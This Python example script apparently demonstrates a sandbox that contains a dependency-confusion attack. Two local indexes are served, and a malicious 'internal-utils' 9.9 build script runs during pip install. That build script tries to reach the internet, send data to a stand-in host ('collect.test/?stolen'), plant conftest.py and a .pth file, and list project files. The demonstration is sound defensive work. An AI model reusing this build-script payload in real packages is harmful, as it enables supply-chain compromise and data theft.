"""Dependency confusion behind the wall: a real pip, two indexes, a build script that steals.

    python examples/supply_chain.py

The company's index has internal-utils 1.0. Somebody else's has 9.9 of the same name, so pip takes
that one, and its build script runs. What it wants is a way out. Exits 1 if it finds one.
"""

import http.server
import io
import json
import subprocess
import sys
import tarfile
import tempfile
import threading
from collections.abc import Generator, Sequence
from contextlib import contextmanager
from pathlib import Path

from nucleus.approver import Answer, Approve, Deny, Question, approver

PIP = next(iter(Path(sys.base_prefix).glob("lib/python3*/ensurepip/_bundled/pip-*.whl")), None)
PYTHON = Path(sys.base_prefix) / "bin" / f"python3.{sys.version_info[1]}"
PASSPHRASE = b"correct horse battery staple"
NUCLEUS = (sys.executable, "-m", "nucleus.cli")

# A package's own build script (PEP 517): pip runs it before anybody looked at it.
BUILD = """
import io, os, socket, urllib.request, zipfile, json
def attempt(action):
    try: return f"done: {action()}"
    except Exception as error: return type(error).__name__
def write(path):
    with open(path, "w") as file: file.write("planted")
def build_wheel(where, config_settings=None, metadata_directory=None):
    found = {
        "straight to the internet": attempt(lambda: socket.create_connection(("93.184.215.14", 80), 3)),
        "through the proxy": attempt(lambda: urllib.request.urlopen("http://collect.test/?stolen")),
        "into the project": attempt(lambda: write("PROJECT/conftest.py")),
        "into the system": attempt(lambda: write("/usr/lib/python3/dist-packages/planted.pth")),
        "the project's files": attempt(lambda: os.listdir("PROJECT")),
    }
    name = "internal_utils-VERSION-py3-none-any.whl"
    info = "internal_utils-VERSION.dist-info"
    with zipfile.ZipFile(os.path.join(where, name), "w") as wheel:
        wheel.writestr("internal_utils.py", "ATTEMPTS = " + repr(found))
        wheel.writestr(info + "/METADATA", "Metadata-Version: 2.1\\nName: internal-utils\\nVersion: VERSION\\n")
        wheel.writestr(info + "/WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "/RECORD", "")
    return name
"""  # noqa: E501  a file of its own, once it is written

# The agent: it installs what its task needs, reads the project, and publishes. It is not hostile.
AGENT = """
import itertools, json, os, runpy, socket, subprocess, sys
numbers = itertools.count(1)
tools = socket.create_connection(tuple(os.environ["NUCLEUS_TOOLS"].split(":"))).makefile("rw")
def call(name, **arguments):
    params = {"name": name, "arguments": arguments, "_meta": {"nucleus/wait": False}}
    tools.write(json.dumps({"jsonrpc": "2.0", "id": next(numbers), "method": "tools/call", "params": params}) + "\\n")
    tools.flush()
    answer = next(line for line in map(json.loads, tools) if "id" in line)
    return answer.get("result") or sys.exit(str(answer))
def tell(**what): print(json.dumps(what), flush=True)
pip = subprocess.run(
    [sys.executable, "PIP/pip", "install", "--quiet", "--no-cache-dir", "--disable-pip-version-check", "--retries", "0",
     "--trusted-host", "index.test", "--target", "/tmp/site",
     "--index-url", "http://index.test:PORT/company/", "--extra-index-url", "http://index.test:PORT/public/",
     "internal-utils"], capture_output=True, text=True)
if pip.returncode: sys.exit(pip.stderr)
package = runpy.run_path("/tmp/site/internal_utils.py")
tell(installed=[name for name in os.listdir("/tmp/site") if "dist-info" in name], attempts=package["ATTEMPTS"])
read = call("fs_read", path="README.md")
tell(read="README.md", exposure=read["_meta"]["nucleus/exposure"])
pushed = call("git_push", repo=".", remote="origin", branch="main")
refusal = pushed["_meta"].get("nucleus/refusal")
tell(push="it went out" if refusal is None else refusal["code"], owed=refusal and refusal["obligations"])
"""  # noqa: E501

POLICY = """
[remotes]
origin = {{ url = "{bare}" }}
[egress]
ports = [{port}]
types = ["text/*", "application/*"]
hosts = ["index.test"]
[egress.pins]
"index.test" = ["127.0.0.1"]
[egress.private]  # this name, this port and this address, and no other that is private
"index.test:{port}" = "127.0.0.1"
"""

PROFILE = """
name = "publisher"
ttl_seconds = 1800
[levels]
read_files = "always"
web_fetch = "always"
git_push = "always"
[budget]
usd = "0"
tokens_in = 0
tokens_out = 0
"""


def sdist(version: str, project: Path) -> bytes:
    """internal-utils in this version, with a build script of its own."""
    build = BUILD.replace("VERSION", version).replace("PROJECT", str(project))
    project_file = '[build-system]\nrequires = []\nbuild-backend = "build"\nbackend-path = ["."]\n'
    about = f"Metadata-Version: 2.1\nName: internal-utils\nVersion: {version}\n"
    files = {"pyproject.toml": project_file, "build.py": build, "PKG-INFO": about}
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"internal_utils-{version}/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return made.getvalue()


def serve(project: Path) -> http.server.ThreadingHTTPServer:
    """Both indexes on one port of loopback."""
    pages: dict[str, tuple[str, bytes]] = {}
    for index, version in (("company", "1.0"), ("public", "9.9")):
        name = f"internal_utils-{version}.tar.gz"
        page = f'<!DOCTYPE html><a href="{name}">{name}</a>'.encode()
        pages[f"/{index}/internal-utils/"] = ("text/html", page)
        pages[f"/{index}/internal-utils/{name}"] = ("application/gzip", sdist(version, project))

    class Index(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            kind, body = pages.get(self.path, ("text/plain", b"no such page"))
            self.send_response(200 if self.path in pages else 404)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """What pip asks for is not the story."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def run(*words: object, at: Path) -> str:
    """A command that must go well; what it printed."""
    done = subprocess.run(
        list(map(str, words)), cwd=at, capture_output=True, text=True, check=False
    )
    if done.returncode:
        raise SystemExit(f"{words[0]} failed:\n{done.stdout}{done.stderr}")
    return done.stdout


@contextmanager
def somebody(home: Path, passphrase: bytes, index: str) -> Generator[None]:
    """A person who lets twenty pages of the index through once asked, and nothing else."""

    def answer(asked: Question) -> Answer:
        harmless = all(name.startswith("flow:") for name, _ in asked.owed)
        if asked.tool == "net_fetch" and f"http://{index}/" in asked.arguments and harmless:
            return Approve(pattern=(["host", "in", [index]],), count=20)
        return Deny("Not for an installation.")

    with approver(passphrase=lambda _: passphrase, home=home) as desk:
        thread = threading.Thread(target=desk.run, args=(answer,))
        thread.start()
        try:
            yield
        finally:
            desk.stop()
            thread.join()


def story(place: Path) -> Sequence[dict[str, object]]:
    """Set the stage in `place` and let the agent work; what it told, line by line."""
    project, bare, secret = place / "project", place / "origin.git", place / "passphrase"
    project.mkdir()
    (project / "README.md").write_text("how our billing works\n")
    run("git", "init", "-q", "-b", "main", ".", at=project)
    run("git", "add", ".", at=project)
    run("git", "-c", "user.name=n", "-c", "user.email=n@example.org", "commit", "-qm", "first",
        at=project)  # fmt: skip
    run("git", "init", "-q", "--bare", bare, at=place)
    secret.touch(0o600)
    secret.write_bytes(PASSPHRASE)
    (place / "profile.toml").write_text(PROFILE)
    home = (*NUCLEUS, "--home", place / "home")
    run(*home, "init", "--passphrase-file", secret, at=place)
    run(*home, "token", "issue", "--profile-file", "profile.toml", "--sub", "agent", "--bearer",
        "--path", project, "-o", "agent.token", "--passphrase-file", secret, at=place)  # fmt: skip
    server = serve(project)
    port = server.server_address[1]
    (policy,) = (place / "home").rglob("policy.toml")
    policy.write_text(policy.read_text() + POLICY.format(bare=bare, port=port))
    agent = AGENT.replace("PORT", str(port)).replace("PIP", str(PIP))
    with somebody(place / "home", PASSPHRASE, f"index.test:{port}"):
        told = run(*home, "run", "--local", "--token", "agent.token", "--dir", project,
                   "--workspace", "none", "--ask-for", "8s", "--", PYTHON, "-c", agent,
                   at=place)  # fmt: skip
    server.shutdown()
    run(*home, "trace", "verify", at=place)
    left = run("git", "for-each-ref", at=bare)
    return [*map(json.loads, told.splitlines()), {"the remote has": left or "nothing"}]


def main() -> int:
    if PIP is None:
        raise SystemExit("This Python brings no pip: install python3-venv.")
    with tempfile.TemporaryDirectory() as place:
        lines = story(Path(place).resolve())
    for line in lines:
        print(json.dumps(line))
    return 0 if lines[-1] == {"the remote has": "nothing"} else 1


if __name__ == "__main__":
    sys.exit(main())
